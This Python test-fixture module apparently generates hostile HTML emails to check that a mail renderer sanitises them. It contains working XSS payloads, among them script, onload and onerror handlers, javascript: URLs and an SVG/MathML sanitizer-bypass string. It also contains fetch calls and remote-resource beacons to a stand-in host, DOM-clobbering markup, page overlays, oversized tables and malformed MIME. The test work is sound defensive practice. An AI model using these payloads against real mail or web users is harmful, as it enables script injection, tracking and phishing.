"""Mail that means harm or is beyond reason. Each has WORD in it to be read; each script calls the canary."""

from collections.abc import Iterator
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default

WORD = "Lesbar"
END = "Schlusswort"
ENDLESS = "a table without end"
CANARY = "canary"
OUTSIDE = "outside.example"
_CALL = f"(window.top||window).{CANARY}&&(window.top||window).{CANARY}(location.href);fetch('https://{OUTSIDE}/f')"
_URL = f"https://{OUTSIDE}"
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"

_HTML = {
    "scripts": f'<script>{_CALL}</script><body onload="{_CALL}"><img src=x onerror="{_CALL}">{WORD}</body>',
    # The word stands first: read again, such markup hides what follows it in a comment.
    "scripts within svg and math": (
        f'<p>{WORD}</p><svg onload="{_CALL}"><script>{_CALL}</script>'
        f'<a xlink:href="javascript:{_CALL}">x</a></svg>'
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror=\"{_CALL}\"&gt;'></table></mtext></math>"
    ),
    "frames": (
        f'<iframe srcdoc="<script>{_CALL}</script>"></iframe><iframe src="javascript:{_CALL}"></iframe>'
        f'<iframe src="{_URL}/frame"></iframe><object data="{_URL}/o"></object><embed src="{_URL}/e">{WORD}'
    ),
    "ways out": (
        f'<meta http-equiv=refresh content="0;url={_URL}/refresh"><base href="{_URL}/">'
        f'<link rel=stylesheet href="{_URL}/s.css"><link rel=preload as=image href="{_URL}/pre">'
        f'<link rel=dns-prefetch href="{_URL}">'
        f'<form action="{_URL}/form"><input name=q autofocus></form>{WORD}'
    ),
    "pictures from outside": (
        f'<img src="{_URL}/1"><img srcset="{_URL}/2 2x"><img src="//{OUTSIDE}/3"><video poster="{_URL}/4">'
        f'</video><audio src="{_URL}/5" autoplay></audio><table background="{_URL}/6"><tr><td>{WORD}</table>'
        f"<style>@import url({_URL}/7);body{{background:url({_URL}/8)}}@font-face{{font-family:x;"
        f'src:url({_URL}/9)}}p{{font-family:x}}</style><p style="list-style:url({_URL}/10)">x</p>'
    ),
    "a cover over the page": (
        f'<style>body{{{_COVER}}}*{{position:fixed!important}}</style><div style="{_COVER}">x</div>'
        f'<div style="margin-top:-9000px;height:20000px;transform:scale(50)">y</div><p>{WORD}</p>'
    ),
    "a page wider than any screen": (
        f"<table width=20000 cellpadding=90><tr>{'<td>Spalte' * 200}</table><pre>{'breit' * 4000}</pre>{WORD}"
    ),
    ENDLESS: f"<p>{WORD}</p><table>{'<tr><td>Zeile<td>Wert' * 3000}</table><p>{END}</p>",
    "tables in tables": f"{'<table><tr><td>' * 400}{WORD}",
    "tags never closed": f"<div><b><i><a href=x><table><tr><td><ul><li>{WORD}<!-- <p",
    "bigger letters than the page": f'<p style="font-size:4000px;line-height:1">A</p><p>{WORD}</p>',
    "names that stand for others": (
        f"<form id=document name=body><img name=getElementById id=location>"
        f"<a id=parent name=top>{WORD}</a></form>"
    ),
}


def hostile_mail() -> Iterator[tuple[str, bytes]]:
    """Subject and octets of each."""
    for subject, html in _HTML.items():
        message = EmailMessage()
        message["From"] = "Mallory <mallory@outside.example>"
        message["Subject"] = f"Hostile: {subject}"
        message.set_content(html, subtype="html", cte="base64")
        yield str(message["Subject"]), bytes(message)
    yield from _broken()


NESTED = "Hostile: messages within messages"
_LEVELS = 12


def nested_mail() -> bytes:
    """A message with each of them attached, and one within another deeper than anybody reads."""
    outer = _carrier(NESTED)
    for subject, octets in hostile_mail():
        if subject.removeprefix("Hostile: ") in _HTML:
            outer.add_attachment(message_from_bytes(octets, policy=default))
    deepest = _carrier("Level 0", _HTML["scripts"])
    for level in range(1, _LEVELS):
        within, deepest = deepest, _carrier(f"Level {level}", _HTML["scripts"])
        deepest.add_attachment(within)
    outer.add_attachment(deepest)
    return bytes(outer)


def _carrier(subject: str, html: str = f"<p>{WORD}</p>") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@outside.example>"
    message["Subject"] = subject
    message.set_content(html, subtype="html", cte="quoted-printable")
    return message


def _broken() -> Iterator[tuple[str, bytes]]:
    """Octets no mail program should have sent."""
    head = "From: Mallory <mallory@outside.example>\r\nSubject: Hostile: {}\r\n"
    bodies = {
        "a wrong character set": b"Content-Type: text/html; charset=martian\r\n\r\n"
        b"<p>Lesbar Gr\xfc\xdfe\xff</p>",
        "two character sets": b"Content-Type: text/html; charset=us-ascii\r\n\r\n"
        b"<meta charset=koi8-r><p>Lesbar Gr\xc3\xbc\xc3\x9fe</p>",
        "no end of parts": (
            b"Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n"
            b"<p>Lesbar</p>\r\n--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n"
        ),
        "directions turned round": "\u202e<p>Lesbar \u202e\u2066\u0000</p>".encode(),
    }
    for subject, body in bodies.items():
        if not body.startswith(b"Content-Type"):
            body = b"Content-Type: text/html; charset=utf-8\r\n\r\n" + body
        yield f"Hostile: {subject}", head.format(subject).encode() + body
